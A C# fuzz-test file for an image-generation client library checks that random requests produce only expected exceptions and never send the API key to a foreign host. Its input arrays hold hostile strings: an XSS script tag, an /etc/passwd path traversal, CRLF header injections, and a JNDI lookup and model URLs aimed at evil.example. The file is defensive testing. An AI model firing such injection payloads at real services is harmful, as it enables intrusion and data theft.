using System.Text.Json.Nodes;
using UnifiedImageGen.Security.Tests.Harness;
using UnifiedImageGen.Validation;

namespace UnifiedImageGen.Security.Tests;

/// <summary>
/// Thousands of random requests (a seeded <see cref="Random"/>, so a failure reproduces) through the validator and
/// every provider, each answering with a valid recorded response: whatever the request, the only exceptions are
/// <see cref="ArgumentException"/> (and subclasses) and <see cref="ImageGenerationException"/>, and the key never goes
/// to a host other than the provider's.
/// </summary>
public class RandomRequestTests
{
    private static readonly string[] OddText =
    [
        "a fox", "", " ", "\t\n", "🦊🏔️👨‍👩‍👧", "ﬃ Å Å", "\u202Eevil\u202C", "zero\u200Bwidth", "combining e\u0301\u0301\u0301", "中文提示", "עברית",
        "\uFEFFbom", "\uD83D", "\uDE00x", "nul\u0000", "bell\u0007", "del\u007F", "c1\u0085", "\"quotes\" and \\backslashes\\", "{\"prompt\":\"x\"}",
        "<script>alert(1)</script>", "../../../etc/passwd", "%00%0d%0aX-Injected: 1", "a\r\nX-Injected: 1", "${jndi:ldap://evil.example/a}",
        "\uFFFF\uFFFE", "\U0010FFFF", "𝕏𝕐ℤ",
    ];

    private static readonly string?[] Models =
    [
        null, null, null, "gpt-image-1", "dall-e-2", "dall-e-3", "sd3.5-large", "inpaint", "upscale-creative", "fal-ai/flux/dev", "fal-ai/flux/schnell",
        "black-forest-labs/flux-schnell", "flux-pro-1.1", "flux-pro-1.0-fill", "imagen-4.0-generate-001", "gemini-3.1-flash-image", "V_2", "image4_ultra",
        "unknown-model", "", " ", "https://evil.example/x", "//evil.example/x", "owner/name:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef",
        "deployments/acme/flux", "a\r\nX-Injected: 1", "../..", "模型",
    ];

    private static readonly string[] JsonKeys = ["prompt", "model", "n", "seed", "image_size", "num_images", "webhook_url", "authorization", "api_key", "x", "__proto__", "negative_prompt", "steps", ""];

    public static TheoryData<string> Providers() => [.. ProviderHost.Http, "placeholder"];

    [Fact]
    public void Validator_OnRandomRequests_OnlyThrowsArgumentOrImageGenerationExceptions()
    {
        var random = new Random(20261122);
        ImageModelDescriptor[] models =
        [
            ImageModelDescriptor.Permissive("any"),
            new("sizes", ImageCapabilities.All) { SupportedSizes = [new(1024, 1024), new(1792, 1024)], MaxPromptLength = 4000, MaxInputImageBytes = 4096 },
            new("ratios", ImageCapabilities.TextToImage | ImageCapabilities.Seed) { SupportedAspectRatios = [AspectRatio.Square, AspectRatio.Landscape16x9] },
            new("free", ImageCapabilities.All) { SizeConstraint = new ImageSizeConstraint(64, 2048, 16) { MaxPixels = 4_000_000 } },
        ];
        for (int i = 0; i < 4000; i++)
        {
            var request = RandomRequest(random, provider: "validator");
            try
            {
                ImageRequestValidator.Validate(request, models[random.Next(models.Length)], (UnsupportedSettingBehavior)random.Next(2), "validator");
            }
            catch (Exception ex) when (ex is ArgumentException or ImageGenerationException)
            {
            }
        }
    }

    [Theory]
    [MemberData(nameof(Providers))]
    public async Task Provider_OnRandomRequests_OnlyThrowsArgumentOrImageGenerationExceptions_AndKeepsTheKeyHome(string provider)
    {
        var random2 = new Random(StableSeed(provider));
        using var host = new ProviderHost(provider, configure: o => o.UnsupportedSettingBehavior = (UnsupportedSettingBehavior)(StableSeed(provider) % 2));
        int succeeded = 0, refused = 0;
        for (int i = 0; i < 300; i++)
        {
            var request = RandomRequest(random2, provider);
            if (provider == "placeholder" && request is { Size: { Width: > 0 } big })
            {
                // The placeholder really renders: keep its images small so the test stays fast (sizes are still random).
                request = request with { Size = new ImageSize(Math.Min(big.Width, 96), Math.Min(big.Height, 96)), Count = Math.Min(request.Count, 4) };
            }

            int before = host.Server.Count;
            var ex = await Hostile.Catch(() => host.Run(host.Provider.GenerateAsync(request)));
            if (ex is null)
            {
                succeeded++;
            }
            else if (ex is ArgumentException or ImageGenerationException)
            {
                refused++;
            }
            else
            {
                Assert.Fail($"{provider}, request #{i} ({Describe(request)}) threw {ex}");
            }

            foreach (var sent in host.Server.Requests.Skip(before))
            {
                Assert.False(sent.Uri.Host.Contains("evil", StringComparison.Ordinal), $"{provider} sent a request to {sent.Uri} for request #{i} ({Describe(request)})");
                Assert.DoesNotContain(sent.Headers, h => h.Key.Contains("Injected", StringComparison.OrdinalIgnoreCase));
            }
        }

        Assert.True(succeeded > 0, $"{provider}: no random request succeeded; the emulator or the generator is broken ({refused} refused).");
    }

    /// <summary>
    /// Random non-image payloads (<see cref="Hostile.NonImage"/>) wherever each provider's images arrive: base64 fields
    /// (OpenAI <c>b64_json</c>, Google inline data, Replicate data URIs), raw bodies (Stability <c>image/*</c>, ComfyUI
    /// <c>/view</c>) and downloads (every URL provider). Each is refused as UnexpectedResponse, whose message says
    /// what the bytes look like but never holds them.
    /// </summary>
    [Theory]
    [MemberData(nameof(HttpProviders))]
    public async Task Provider_OnRandomNonImagePayloads_RefusesEachAsUnexpectedResponse(string provider)
    {
        var random = new Random(StableSeed("non-image " + provider));
        using var host = new ProviderHost(provider);
        for (int i = 0; i < 40; i++)
        {
            var (kind, payload) = Hostile.NonImage(random);
            bool inline = random.Next(2) == 0;
            host.Server.Override = (request, _) => NonImageAnswer(provider, request, payload, inline);
            var ex = await Hostile.Catch(() => host.Run(host.Provider.GenerateAsync(ProviderHost.Valid(provider))));
            var refused = Assert.IsType<ImageGenerationException>(ex);
            Assert.True(refused.Kind == ImageGenerationErrorKind.UnexpectedResponse, $"{provider}, payload #{i} ({kind}, {payload.Length} bytes, inline: {inline}) gave {refused.Kind}: {refused.Message}");
            Assert.DoesNotContain("Bad Gateway", refused.ToString(), StringComparison.Ordinal);
            if (payload.Length >= 16)
            {
                Assert.DoesNotContain(Convert.ToBase64String(payload)[..16], refused.ToString(), StringComparison.Ordinal);
            }
        }
    }

    public static TheoryData<string> HttpProviders() => [.. ProviderHost.Http];

    // The provider's answer with the payload where its image goes; null leaves the request to the emulator.
    private static Task<HttpResponseMessage>? NonImageAnswer(string provider, HttpRequestMessage request, byte[] payload, bool inline)
    {
        var uri = request.RequestUri!;
        string b64 = Convert.ToBase64String(payload);
        if (uri.Host == "cdn.example.com")
        {
            return Task.FromResult(FakeProviderServer.Image(payload));
        }

        return provider switch
        {
            "openai" when inline && request.Method == HttpMethod.Post => Task.FromResult(FakeProviderServer.Json($$"""{"created":1764000000,"data":[{"b64_json":"{{b64}}"}]}""")),
            "google" => Task.FromResult(FakeProviderServer.Json($$$"""{"candidates":[{"content":{"role":"model","parts":[{"inlineData":{"mimeType":"image/png","data":"{{{b64}}}"}}]},"finishReason":"STOP","index":0}]}""")),
            "stability" when request.Method == HttpMethod.Post => Task.FromResult(FakeProviderServer.Image(payload)),
            "comfyui" when uri.AbsolutePath.EndsWith("/view", StringComparison.Ordinal) => Task.FromResult(FakeProviderServer.Image(payload)),
            "replicate" when inline && request.Method == HttpMethod.Post => Task.FromResult(FakeProviderServer.Json($$$"""{"id":"ufawqhfynnddngldkgtslldrkq","model":"black-forest-labs/flux-schnell","version":"hidden","status":"succeeded","input":{},"logs":"","output":["data:image/png;base64,{{{b64}}}"],"error":null,"created_at":"2026-11-22T10:00:00.000Z","metrics":{"predict_time":0.6}}""")),
            _ => null,
        };
    }

    private static int StableSeed(string text) => text.Aggregate(17, (h, c) => (h * 31) + c) & int.MaxValue;

    private static string Describe(ImageGenerationRequest r) =>
        $"Operation={r.Operation}, Model={r.Model}, Count={r.Count}, Size={r.Size}, Ratio={r.AspectRatio}, Seed={r.Seed}, Steps={r.Steps}, Guidance={r.GuidanceScale}, Strength={r.Strength}, Inputs={r.InputImages.Count}, Mask={r.Mask}, Options={(r.ProviderOptions is null ? "" : string.Join(";", r.ProviderOptions.Select(o => o.Key + "=" + o.Value)))}, PromptLength={r.Prompt?.Length}";

    internal static ImageGenerationRequest RandomRequest(Random random, string provider)
    {
        string? Text()
        {
            return random.Next(10) switch
            {
                0 => null,
                1 => new string((char)random.Next(0x20, 0x7F), random.Next(0, 40_000)),
                2 => string.Concat(Enumerable.Range(0, random.Next(1, 6)).Select(_ => OddText[random.Next(OddText.Length)])),
                3 => new string(Enumerable.Range(0, random.Next(1, 50)).Select(_ => (char)random.Next(0, 0x10000)).ToArray()),
                _ => "a fox " + OddText[random.Next(OddText.Length)],
            };
        }

        ImageInput RandomImage() => random.Next(6) switch
        {
            0 => ImageInput.FromUri(new Uri($"https://cdn.example.com/in/{random.Next()}.png")),
            1 => ImageInput.FromBytes(Hostile.Png(random.Next(1, 70), random.Next(1, 70)), "image/png"),
            2 => ImageInput.FromBytes(new byte[] { 0xFF, 0xD8, 0xFF, 0xE0, 0x00, 0x10, (byte)'J', (byte)'F', (byte)'I', (byte)'F', 0, 1, 1, 0, 0, 1, 0, 1, 0, 0, 0xFF, 0xC0, 0x00, 0x11, 0x08, 0x00, 0x02, 0x00, 0x03, 0x03, 1, 0x22, 0, 2, 0x11, 1, 3, 0x11, 1, 0xFF, 0xD9 }),
            _ => ImageInput.FromBytes(Hostile.Png(64, 64)),
        };

        ImageSize? size = random.Next(4) switch
        {
            0 => new ImageSize(random.Next(1, ImageSize.MaxSide + 1), random.Next(1, ImageSize.MaxSide + 1)),
            1 => new ImageSize(64 * random.Next(1, 40), 64 * random.Next(1, 40)),
            2 when random.Next(4) == 0 => default(ImageSize),
            _ => null,
        };
        var inputs = Enumerable.Range(0, random.Next(4) == 0 ? random.Next(0, 5) : 0).Select(_ => RandomImage()).ToArray();
        var operation = random.Next(12) switch
        {
            < 5 => ImageOperation.Generate,
            11 => (ImageOperation)random.Next(-3, 12),
            var n => (ImageOperation)(n - 4),
        };
        if (operation != ImageOperation.Generate && random.Next(3) > 0 && inputs.Length == 0)
        {
            inputs = [RandomImage()];
        }

        IReadOnlyDictionary<string, object>? options = null;
        if (random.Next(4) == 0)
        {
            var json = new JsonObject();
            for (int k = random.Next(0, 4); k > 0; k--)
            {
                json[JsonKeys[random.Next(JsonKeys.Length)]] = random.Next(3) switch { 0 => (JsonNode)random.Next(), 1 => Text() ?? "x", _ => new JsonObject { ["nested"] = true } };
            }

            object value = random.Next(5) == 0 ? (object)"not an options object" : json;
            options = new Dictionary<string, object> { [random.Next(5) == 0 ? "other" : provider] = value };
        }

        return new ImageGenerationRequest
        {
            Prompt = Text(),
            NegativePrompt = random.Next(5) == 0 ? Text() : null,
            Model = random.Next(3) == 0 ? Models[random.Next(Models.Length)] : ProviderHost.ModelFor(provider),
            Operation = operation,
            Count = random.Next(10) switch { 0 => random.Next(-3, 1), 1 => random.Next(5, 200), _ => random.Next(1, 5) },
            Size = size,
            AspectRatio = random.Next(4) == 0 ? new AspectRatio(random.Next(1, 40), random.Next(1, 40)) : random.Next(30) == 0 ? default(AspectRatio) : null,
            Seed = random.Next(3) switch { 0 => null, 1 => random.Next(), _ => random.NextInt64(long.MinValue, long.MaxValue) },
            Steps = random.Next(4) == 0 ? random.Next(-5, 2000) : null,
            GuidanceScale = random.Next(4) == 0 ? random.Next(6) switch { 0 => double.NaN, 1 => double.PositiveInfinity, _ => (random.NextDouble() * 150) - 20 } : null,
            Strength = random.Next(4) == 0 ? random.Next(5) switch { 0 => double.NaN, 1 => double.NegativeInfinity, _ => (random.NextDouble() * 1.6) - 0.3 } : null,
            Quality = random.Next(4) == 0 ? new ImageQuality(random.Next(2) == 0 ? "hd" : (Text() ?? "x") + "q") : (ImageQuality?)null,
            Style = random.Next(6) == 0 ? Text() : null,
            OutputFormat = random.Next(4) == 0 ? random.Next(4) switch { 0 => ImageFormat.Png, 1 => ImageFormat.Jpeg, 2 => ImageFormat.Webp, _ => new ImageFormat("tiff") } : (ImageFormat?)null,
            InputImages = inputs,
            Mask = inputs.Length > 0 && random.Next(3) == 0 ? ImageInput.FromBytes(Hostile.Png(random.Next(2) == 0 ? 64 : random.Next(1, 80), 64)) : null,
            Loras = random.Next(8) == 0 ? [new LoraWeight(random.Next(2) == 0 ? "https://cdn.example.com/l.safetensors" : "owner/lora", random.NextDouble() * 2)] : [],
            ProviderOptions = options,
            User = random.Next(5) == 0 ? Text() : null,
        };
    }
}
